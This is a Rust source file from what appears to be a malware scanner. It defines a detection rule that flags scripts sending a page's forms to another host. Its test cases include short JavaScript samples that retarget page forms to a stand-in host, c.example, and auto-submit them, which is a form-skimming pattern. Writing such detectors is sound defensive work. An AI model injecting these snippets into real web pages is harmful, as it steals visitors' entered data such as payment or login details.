//! `page-forms-sent-abroad`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::{Kind, Stream};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "page-forms-sent-abroad",
    description: "The script sends this page's forms to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::FormSentAbroad])],
    within: 0,
    only_if: Some(are_of_page),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var f=document.forms,i=f.length-1;do{f[i].action='http://c.example';f[i].onsubmit=null}while(--i)",
            "setTimeout(function(){document.forms[0].action='http://c.example/p';document.forms[0].submit()},5e3)",
            "setTimeout(()=>{const f=document.querySelector('form');f.action='https://c.example/x';f.submit()},8000)",
        ],
        without: &[
            "const f=document.querySelector('#pay');f.action='https://gate.example/x';f.submit()",
            "var f=document.createElement('form');f.action='https://c.example/pay';document.body.appendChild(f);f.submit()",
            "document.forms[0].action='/checkout'",
            "var n=document.forms.length;search.action='https://s.example/q'",
            r#"function pay(i){document.forms[i].action='https://ipg.oldbank.example/start';document.forms[i].submit()}"#,
        ],
    },
};

/// Whether the form is one of `document.forms`, by its number, and not one that the script has made or knows by name.
fn are_of_page(evidence: &Evidence<'_>, held: Held) -> bool {
    let (stream, items) = (evidence.stream, evidence.stream.items());
    let at = held.last as usize;
    let place = &items[at.saturating_sub(LIST)..at.min(items.len())];
    // `forms[i].action`: an index comes before.
    let indexed = place.last().is_some_and(|item| item.is_op(b']'));
    let lists =
        place.windows(2).any(|pair| stream.text(&pair[1]) == "forms" && stream.text(&pair[0]) == "document");
    let near = Near::new(evidence, held, LIST);
    let all = near.has(&["length", "forEach"]) || near.runs_unasked(at);
    indexed && lists && all || is_first_form(stream, at)
}

/// Whether the form was asked for as any form of the page, and is sent by the script itself:
/// `f = document.querySelector('form'); f.action = …; f.submit()`.
fn is_first_form(stream: &Stream<'_>, at: usize) -> bool {
    let items = stream.items();
    let word = |at: usize| items.get(at).map_or("", |item| stream.text(item));
    let Some(name) = at.checked_sub(1).filter(|at| items[*at].kind == Kind::Name).map(word) else {
        return false;
    };
    let asked = (at.saturating_sub(LIST)..at).any(|at| {
        word(at) == name
            && items[at].kind == Kind::Name
            && items.get(at + 1).is_some_and(|next| next.is_op(b'='))
            && (at + 2..at + 8).any(|at| word(at) == "querySelector" && word(at + 2) == "form")
    });
    let sent = (at..at + LIST).any(|at| word(at) == name && word(at + 1) == "submit");
    asked && sent
}

/// Items between `document.forms` and where one of them gets its target.
const LIST: usize = 40;
